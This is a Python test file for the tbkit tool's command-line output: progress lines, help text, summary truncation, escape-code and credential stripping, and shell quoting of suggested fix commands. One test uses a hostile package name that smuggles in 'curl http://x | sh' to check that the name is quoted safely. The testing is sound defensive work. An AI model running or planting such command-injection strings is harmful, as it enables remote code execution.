"""What `tbkit run` and `tbkit doctor` print stays readable and safe: a line per check in a log,
"N rows from M checks", summaries cut and free of escape codes, --help naming the bundled example
and the tiers that may install, copy-paste commands quoted, provenance shown once."""

from __future__ import annotations

import io
import os
import re
import shlex
import subprocess
import sys

import pytest

import models as M
import tbkit
from tbkit.checks.report import summary_of
from tbkit.guard.ownership import Owner, OwnershipReport


@pytest.mark.slow
def test_stderr_to_a_log_gets_one_line_per_finished_check(tmp_path):
    with open(tmp_path / "log", "w") as log:
        proc = subprocess.run(
            [sys.executable, "-m", "tbkit", "run", "--checks", "summary,causal,padding", "--out", "rep"],
            cwd=tmp_path, stdout=subprocess.PIPE, stderr=log, text=True, timeout=240,
        )  # fmt: skip
    assert proc.returncode == 0, (tmp_path / "log").read_text()[-2000:]
    lines = (tmp_path / "log").read_text().splitlines()
    progress = [ln for ln in lines if re.match(r"tbkit: \[\d/3\] \w+: ", ln)]
    assert [ln.split()[2] for ln in progress] == ["summary:", "causal:", "padding:"]
    assert "\r" not in (tmp_path / "log").read_text()
    assert re.search(r"verdict: PASS \(\d+ PASS\) — \d+ rows from 3 checks", proc.stdout)


def test_run_help_names_the_example_the_tiers_that_install_and_the_limits():
    proc = subprocess.run([sys.executable, "-m", "tbkit", "run", "--help"], capture_output=True, text=True, timeout=60)
    text = " ".join(proc.stdout.split())
    assert proc.returncode == 0 and "tiny_gpt" in text and "install gate" in text and "captum" in text
    assert "--check-timeout" in text and "default 1800" in text


def test_the_summary_cuts_long_details_and_drops_escape_codes():
    huge = "\x1b[31mred\x1b]0;title\x07 " + "x" * 20_000_000 + " https://u:TOPSECRET@h/"
    row = {"tier": 1, "check": "causal\x1b[2J", "status": "ERROR", "metric": "crashed", "value": None,
           "threshold": "", "detail": huge, "seconds": 0.1}  # fmt: skip
    d = {"verdict": "FAIL", "counts": {"ERROR": 1}, "interrupted": False, "rows": [row]}
    text = summary_of(d)
    assert "\x1b" not in text and "\x07" not in text and len(text) < 600 and "TOPSECRET" not in text
    assert "1 row from 1 check" in text


def test_doctor_fix_commands_quote_a_hostile_distribution_name():
    hostile = "evil; curl http://x | sh #"
    report = OwnershipReport("/site", "tbkit_ml-1.0.dist-info", [Owner(hostile, "1", ["tbkit/x.py"])], [])
    line = next(ln for ln in report.advice().splitlines() if "pip uninstall" in ln)
    assert shlex.quote(hostile) in line
    assert shlex.split(line.strip().split("python", 1)[1])[-1] == hostile  # one argument, as named


def test_provenance_is_printed_once_in_the_readme_flow(tmp_path, capsys):
    (tmp_path / "model.py").write_text((M.__file__ and open(M.__file__).read()) or "")
    lm = tbkit.load(str(tmp_path / "model.py"), model_name="HealthyDecoder", kind="decoder")
    out = io.StringIO()
    tbkit.run(lm, checks="summary", progress=False, stream=out)
    first = str(lm.provenance).splitlines()[0]
    assert (capsys.readouterr().out + out.getvalue()).count(first) == 1
    assert not list(tmp_path.glob("tbkit-report*")) and os.getcwd()  # no out_dir: no files


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_without_tqdm_is_plain_lines_even_in_a_terminal(monkeypatch):
    from tbkit.checks.progress import Progress

    monkeypatch.setitem(sys.modules, "tqdm", None)  # a bare kernel: importing tqdm fails
    monkeypatch.setitem(sys.modules, "tqdm.auto", None)
    stream = _Terminal()
    progress = Progress(2, stream)
    progress.started(0, "summary")
    progress.finished(0, "summary", ["PASS", "PASS"], 0.5)
    progress.finished(1, "causal", ["FAIL"], 1.0)
    progress.close()
    assert stream.getvalue().splitlines() == [
        "tbkit: [1/2] summary: 2 PASS (0.5 s)",
        "tbkit: [2/2] causal: 1 FAIL (1.0 s)",
    ]
